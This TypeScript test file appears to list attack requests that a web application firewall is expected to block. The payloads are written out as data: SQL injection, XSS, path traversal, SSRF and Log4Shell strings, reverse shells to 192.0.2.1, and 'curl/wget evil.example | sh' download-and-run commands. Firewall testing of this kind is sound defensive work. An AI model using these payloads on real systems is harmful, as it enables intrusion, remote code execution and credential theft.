import { type Asked, file, form, get, json, raw } from './benign/request.ts';
import { ATTACKS } from './waf-cases.ts';

const header = (name: string, value: string, path = '/'): Asked => ({
  name: `${name}: ${value} at ${path}`,
  path,
  headers: { [name]: value },
});
const cookie = (text: string): Asked => header('cookie', text);

const JNDI = '${jndi:ldap://evil.example/a}';
const JNDI_HIDDEN = '${${lower:j}ndi:${lower:l}dap://evil.example/a}';

const SQL = [
  "1' OR '1'='1' --",
  "admin'--",
  "' OR 1=1#",
  '1 UNION ALL SELECT NULL,NULL,version()--',
  "1' AND 1=CONVERT(int,(SELECT @@version))--",
  "1; EXEC xp_cmdshell('dir')--",
  "1' AND extractvalue(1,concat(0x7e,(SELECT database())))--",
  "1' WAITFOR DELAY '0:0:5'--",
  "1' AND BENCHMARK(5000000,MD5('x'))--",
  "1') OR ('1'='1",
  "' UNION SELECT load_file('/etc/passwd')--",
  "1' ORDER BY 10--",
  "x'; INSERT INTO users VALUES('a','b')--",
  "1' UNION/**/SELECT/**/password/**/FROM/**/users--",
];
const XSS = [
  '"><script>alert(document.domain)</script>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'javascript:alert(document.cookie)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<img src=1 href=1 onerror="javascript:alert(1)">',
  "';alert(String.fromCharCode(88,83,83))//",
  '<object data="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];
const SHELL = [
  '; cat /etc/passwd',
  '| cat /etc/shadow',
  '&& wget http://evil.example/x.sh -O- | sh',
  '$(cat /etc/passwd)',
  '$(id)',
  '`id`',
  '`cat /etc/hosts`',
  '; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  '; python3 -c "import os; os.system(\'id\')"',
  '& ping -c 10 192.0.2.1 &',
  '; curl http://evil.example/x | bash',
  '<(cat /etc/passwd)',
  '; nc 192.0.2.1 4444 -e /bin/sh',
];
const FILES = [
  '../../../../etc/passwd',
  '/etc/shadow',
  '....//....//etc/passwd',
  '/proc/self/environ',
  '/etc/passwd%00.png',
  '..\\..\\windows\\win.ini',
  '/var/www/html/.htaccess',
  '../../.ssh/id_rsa',
];
const REMOTE = [
  'http://203.0.113.7/shell.txt',
  'http://169.254.169.254/latest/meta-data/',
  'ftp://198.51.100.3/x',
  'https://8.8.8.8/x.php',
  'http://192.168.1.20@203.0.113.7/x',
  'http://192.168.1.20.evil.example/x?y=http://1.2.3.4/',
];

/** At paranoia 1, every one of these is refused. */
export const ALL_ATTACKS: readonly Asked[] = [
  ...ATTACKS,
  ...SQL.map((text) => get('/api/films', { id: text })),
  ...SQL.map((text) => json('/api/v1/films', { filter: { title: text } })),
  ...SQL.slice(0, 5).map((text) => form('/login', { username: text, password: 'x' })),
  ...SQL.slice(0, 4).map((text) => form('/login', { username: 'ana', password: text })),
  ...XSS.map((text) => get('/search', { q: text })),
  ...XSS.map((text) => json('/api/comments', { text })),
  ...SHELL.map((text) => get('/tools/ping', { host: `127.0.0.1${text}` })),
  ...SHELL.map((text) => json('/api/tools', { name: text })),
  ...SHELL.slice(0, 5).map((text) => form('/login', { username: 'ana', password: text })),
  ...FILES.slice(0, 7).map((text) => get('/download', { file: text })),
  ...REMOTE.slice(0, 1).map((url) => get('/index.php', { page: url })),
  get('/fetch', { url: 'ftp://198.51.100.3/x' }),
  json('/api/fetch', { url: 'https://8.8.8.8/x.php' }),
  get('/fetch', { url: 'http://169.254.169.254/latest/meta-data/' }),
  // One of the LAN does not hide another.
  json('/api/fetch', { a: 'http://192.168.1.20/', b: 'http://203.0.113.7/shell.txt' }),
  json('/api/fetch', { avatar: 'data:image/png;base64,iVBORw0KGgo=', b: 'data:text/html;base64,PHNjcmlwdD4=' }),
  // What is known to be harmless hides nothing beside it.
  json('/graphql', { query: '{ films { id } }; cat /etc/passwd' }),
  json('/graphql', { query: '{ films(id: "1\' UNION SELECT password FROM users--") { id } }' }),
  json('/graphql', { query: '{ films { id } }', variables: { q: '; cat /etc/passwd' } }),
  form('/login', { username: 'ana', password: '$(curl$IFS"evil.example")' }),
  form('/login', { username: 'ana', password: '${jndi:ldap://evil.example/a}' }),
  file('/api/v1/media', 'x.png;y.php'),
  file('/api/v1/media', 'a="b".php'),
  get('/login', { next: '/a?b=1&c=2; cat /etc/passwd' }),
  get('/login', { next: '/a?b=1& cat /etc/passwd' }),
  json('/api/profile', { avatar: 'data:image/png;base64,iVBORw0KGgo=', name: '; cat /etc/passwd' }),
  json('/api/profile', { avatar: 'data:image/png;base64,iVBORw0KGgo="><script>alert(1)</script>' }),
  form('/hook', { payload: '{"a":"1\' UNION SELECT password FROM users--"}' }),
  json('/hook', { heartbeat: { msg: 'timeout 5 cat /etc/passwd' } }),
  json('/api/comments', { text: '"Select" and "Union"', more: "x' union select password from users--" }),
  json('/api/comments', { text: "'/**/select/**/password/**/from/**/users" }),
  json('/api/comments', { text: "'select'x' from users where '1'='1" }),
  get('/x', { q: '1 union/*x*/all/*y*/select a from b' }),
  form('/calc', { f: '(1+2)*3', g: '1) or (1=1' }),
  form('/calc', { f: '(1+2)*3/4 >= 2', g: "1' or '1'='1" }),
  json('/webhooks/github', { message: 'Fix; update from main', more: "x'; update users set admin=1 where 'a'='a" }),
  form('/login', { username: 'ana', password: '${HOME}/../../bin/sh' }),
  form('/login', { username: 'ana', password: '${IFS};cat${IFS}/etc/passwd' }),
  json('/api/v3/customformat', { value: '/\\[(.+?)\\]/; cat /etc/passwd' }),
  json('/api/v3/customformat', { value: '/\\[a\\]/', name: '$(cat /etc/passwd)' }),
  json('/hook', { message: 'see http://localhost/; cat /etc/passwd' }),
  // Paths that look static are no way around.
  ...['/none-b.js', '/report.css', '/assets/x/none.png'].map(
    (path): Asked => ({ name: `union at ${path}`, path: `${path}?id=1+union+select+password+from+users` }),
  ),
  { name: 'traversal with a static ending', path: '/download.js?file=../../../../etc/passwd' },
  { name: 'command with a static ending', path: '/x.css?cmd=cat+/etc/passwd' },
  { name: 'shell of a static name', path: '/shell.js?x=system+etc/passwd&f=/etc/passwd' },
  header('user-agent', 'sqlmap/1.7.2', '/none-c.js'),
  header('user-agent', JNDI, '/none-d.js'),
  header('x-api-version', JNDI, '/none-e.css'),
  header('referer', 'https://x/"><script>alert(1)</script>', '/none-f.png'),
  { name: 'dotfile with a static ending', path: '/.git/logo.png' },
  // Log4Shell wherever a program may write down what it reads.
  ...['user-agent', 'referer', 'x-api-version', 'x-forwarded-for-original', 'authorization', 'accept-language', 'origin', 'x-custom'].map(
    (name) => header(name, JNDI),
  ),
  ...['user-agent', 'x-api-version'].map((name) => header(name, JNDI_HIDDEN)),
  cookie(`session=${JNDI}`),
  json('/api/login', { user: JNDI }),
  form('/login', { username: JNDI_HIDDEN, password: 'x' }),
  { name: 'Log4Shell in the path', path: `/${encodeURIComponent(JNDI)}` },
  // In the portal's free text.
  json('/api/requests', { title: "x' UNION SELECT password FROM users--", kind: 'movie' }),
  json('/api/requests', { title: 'x', kind: 'movie', note: '<script>alert(1)</script>' }),
  json('/api/requests', { title: 'x', kind: 'movie', note: '<img src=x onerror=alert(1)>' }),
  json('/api/requests', { title: 'x', kind: 'movie', note: JNDI }),
  json('/api/requests', { title: "1' OR '1'='1' --", kind: 'movie' }),
  json('/api/session', { name: "admin' OR 1=1--" }),
  json('/api/requests', { title: 'x', kind: 'movie', note: '[x](javascript:alert(document.cookie))' }),
  // Bodies that no reader takes apart.
  raw('/api/notes', 'text/plain', '<script>alert(1)</script>'),
  raw('/api/notes', 'text/plain', "1' UNION SELECT password FROM users--"),
  raw('/api/notes', 'text/plain', JNDI),
  raw('/_bulk', 'application/x-ndjson', `{"index":{}}\n{"title":"${JNDI}"}\n`),
  raw('/api/blobs', 'application/octet-stream', '<?php system($_GET["c"]); ?>'),
  raw('/api/xml', 'application/xml', '<?xml version="1.0"?><a>1\' UNION SELECT password FROM users--</a>'),
  // Files and forms.
  file('/upload.php', 'shell.php'),
  file('/api/v1/media', '../../../../etc/cron.d/x'),
  file('/api/v1/media', '.htaccess'),
  file('/api/v1/media', 'a.png', { caption: '<script>alert(1)</script>' }),
  file('/api/v1/media', 'a.png', { caption: "x' OR '1'='1' --" }),
  // Programs that look for a way in.
  ...['Nikto/2.5.0', 'masscan/1.3', 'WPScan v3.8', 'dirbuster', 'Acunetix'].map((agent) => header('user-agent', agent)),
  ...['/.git/HEAD', '/.env', '/wp-config.php.bak', '/.aws/credentials', '/.ssh/id_rsa', '/web.config'].map(
    (path): Asked => ({ name: `file ${path}`, path }),
  ),
  { name: 'method TRACK', method: 'TRACK', path: '/' },
  // Code in other languages.
  get('/x', { q: '<?php eval($_POST["c"]); ?>' }),
  get('/x', { q: 'require("child_process").execSync("id")' }),
  get('/x', { q: '{"__proto__":{"admin":true}}.constructor.prototype' }),
  get('/x', { name: '#{7*7}${T(java.lang.Runtime).getRuntime().exec("id")}' }),
  get('/x', { class: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern' }),
  cookie("id=1' OR '1'='1"),
  cookie('theme=<script>alert(1)</script>'),
];
